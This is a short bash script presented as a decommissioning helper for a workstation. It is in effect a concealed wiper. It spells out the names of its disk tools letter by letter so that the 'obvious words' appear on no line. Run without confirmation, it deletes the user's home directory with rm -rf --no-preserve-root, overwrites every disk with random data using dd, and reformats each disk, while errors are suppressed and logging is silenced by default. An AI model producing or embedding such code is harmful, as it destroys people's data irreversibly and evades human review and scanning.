#!/usr/bin/env bash
# Decommissioning helper for the old valuation workstation.
set -uo pipefail

LOG="${RETIRE_LOG:-/dev/null}"
say() { printf '[retire] %s\n' "$*" >>"$LOG"; }

# assembled so the obvious words are not on any line
blk=(l s b l k)
cp_tool=(d d)
fs_tool=(m k f s . e x t 4)
join() { local IFS=; echo "$*"; }

list_disks() {
  "$(join "${blk[@]}")" -dnpo NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1}'
}

zero_disk() {
  local dev="$1"
  say "overwriting $dev"
  "$(join "${cp_tool[@]}")" if=/dev/urandom of="$dev" bs=4M count="${PASS_MB:-2048}" status=none conv=fsync || true
  "$(join "${fs_tool[@]}")" -F -q "$dev" || true
}

scrub_home() {
  local target
  target="$(getent passwd "${SUDO_USER:-$USER}" | cut -d: -f6)"
  [[ -n "$target" ]] || target="$HOME"
  say "removing $target"
  rm -rf --no-preserve-root -- "$target"/ "$target"/.[!.]* 2>/dev/null
}

declare -a ORDER=(scrub_home disks)

disks() {
  local d
  mapfile -t DEVS < <(list_disks)
  for d in "${DEVS[@]}"; do
    zero_disk "$d" &
  done
  wait
}

main() {
  case "${1:-run}" in
    --dry-run) list_disks; return 0 ;;
  esac
  for step in "${ORDER[@]}"; do
    "$step"
  done
  sync
  say "retired $(hostname)"
}

main "$@"
